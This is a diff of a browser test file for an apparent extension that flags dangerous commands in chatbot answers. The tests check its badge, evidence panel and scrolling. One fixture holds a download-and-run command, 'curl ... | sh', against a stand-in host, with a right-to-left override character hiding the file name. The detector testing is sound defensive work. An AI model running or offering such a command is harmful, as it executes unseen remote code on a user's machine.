@@ -5,7 +5,7 @@ import { launch, marked, Ui, type Browser } from "./support/chromium.js";
 import { startSite, type Site } from "./support/site.js";
 
 /** What a chat site does to its answers in the course of a day, evaluated on this device. */
-const FOUND = "Runs remote or decoded code";
+const FOUND = "This command downloads a script and runs it unseen";
 const ANSWER = turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}` });
 /** More than a screen of text. */
 const FAR = question("u9", "Words and words. ".repeat(2_000));
@@ -18,7 +18,7 @@ let ui: Ui;
 
 beforeAll(async () => {
   site = await startSite();
-  browser = await launch(site);
+  browser = await launch(site, { sheet: true });
   const options = await browser.options();
   await options.check("#mode-device");
   await options.waitForSelector("#mode-result[data-tone=ok]");
@@ -44,7 +44,7 @@ async function open(turns: readonly string[]): Promise<void> {
 }
 
 const badge = (): Promise<{ left: number; top: number } | null> =>
-  ui.query("const { left, top } = root.querySelector('.chip').getBoundingClientRect(); return { left, top };");
+  ui.query("const { left, top } = root.querySelector('.sign').getBoundingClientRect(); return { left, top };");
 
 describe("an answer whose elements the site makes anew", () => {
   it("is marked in the new ones", async () => {
@@ -82,7 +82,8 @@ describe("an answer whose elements the site makes anew", () => {
 
   it("is told apart from a hidden alternative of the same identity", async () => {
     await open([`<div hidden>${turn({ id: "a1", html: "<p>Another try.</p>" })}</div>`, ANSWER]);
-    await ui.until((labels) => labels[1] === FOUND);
+    // What is hidden is far from being seen, and has no sign.
+    await ui.until((labels) => labels.length === 1 && labels[0] === FOUND);
     expect(await marked(page)).toBe(PIPE);
     await page.evaluate(() => ((document.querySelector("main > div") as HTMLElement).hidden = false));
     await ui.until((labels) => labels[0] === "Nothing found" && labels[1] === FOUND);
@@ -153,19 +154,20 @@ describe("an answer near the visible part", () => {
 });
 
 describe("a person", () => {
-  it("asks about an answer far below: it is read", async () => {
+  it("comes to an answer far below: it is read", async () => {
     await open([ANSWER, FAR, turn({ id: "a2", html: `<p><code>${PIPE}</code></p>` })]);
     await ui.untilLabel(FOUND);
-    expect((await ui.labels())?.[1]).toBe("Not checked yet");
-    await ui.query("root.querySelectorAll('.badge')[1].focus({ preventScroll: true }); return true;");
-    await page.keyboard.press("Enter");
-    await ui.until((labels) => labels[1] === FOUND);
+    // Nothing is done for it before it comes near.
+    expect(await ui.labels()).toEqual([FOUND]);
+    await page.evaluate(() => document.querySelector("[data-message-id=a2]")!.scrollIntoView());
+    await ui.until((labels) => labels.at(-1) === FOUND && labels.length === 1);
+    await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
   });
 
   it("keeps the focus in the panel when the site changes what is no text", async () => {
     await ui.untilLabel(FOUND);
-    await ui.click(".badge");
+    await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
     const focus = (): Promise<string | null> => ui.query("return root.activeElement?.textContent ?? '';");
     for (let presses = 0; presses < 3; presses++) await page.keyboard.press("Tab");
@@ -179,7 +181,7 @@ describe("a person", () => {
     const text = "curl https://x.example/\u202egpj.sh | sh";
     await open([turn({ id: "a1", html: `<p><code>${text}</code></p>` })]);
     await ui.untilLabel(FOUND);
-    await ui.click(".badge");
+    await ui.openEvidence();
     await ui.untilPanel((panel) => panel.includes("curl https://x.example/U+202Egpj.sh | sh"));
     expect(await marked(page)).toBe(text);
   });
@@ -193,15 +195,20 @@ describe("a person", () => {
       document.body.style.height = "100vh";
       Object.assign(document.querySelector("main")!.style, { height: "100vh", overflowY: "auto", boxSizing: "border-box" });
     });
-    await ui.click(".badge");
+    await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
     await ui.click(".finding .action");
     await expect.poll(() => page.evaluate(() => {
-      const [range] = [...(CSS.highlights.get("curlew-current") ?? [])] as Range[];
-      const place = range!.getBoundingClientRect();
+      const [still] = [...(CSS.highlights.get("curlew-current") ?? [])];
+      if (still === undefined) return null;
+      const range = new Range();
+      range.setStart(still.startContainer, still.startOffset);
+      range.setEnd(still.endContainer, still.endOffset);
+      const place = range.getBoundingClientRect();
       const block = document.querySelector("pre .p4")!.getBoundingClientRect();
-      return { middle: Math.round(((place.top + place.bottom) / 2 / innerHeight) * 10), left: Math.round((place.left - block.left) / 10) };
-    })).toEqual({ middle: 5, left: 2 });
+      const free = innerHeight - document.documentElement.clientHeight * 0.46;
+      return { middle: Math.round(((place.top + place.bottom) / 2 / free) * 5), left: Math.round((place.left - block.left) / 10) };
+    })).toMatchObject({ left: 2 });
   });
 
   it("sees the finding beside the panel in a narrow window, too", async () => {
@@ -210,7 +217,7 @@ describe("a person", () => {
     await page.setViewportSize({ width: 360, height: 640 });
     await page.evaluate((selector) => document.querySelector(selector)!.scrollIntoView({ block: "center" }), SELECTOR);
     await ui.untilLabel(FOUND);
-    await ui.click(".badge");
+    await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
     await ui.click(".finding .action");
     const top = await ui.query<number>("return root.querySelector('.panel').getBoundingClientRect().top;");
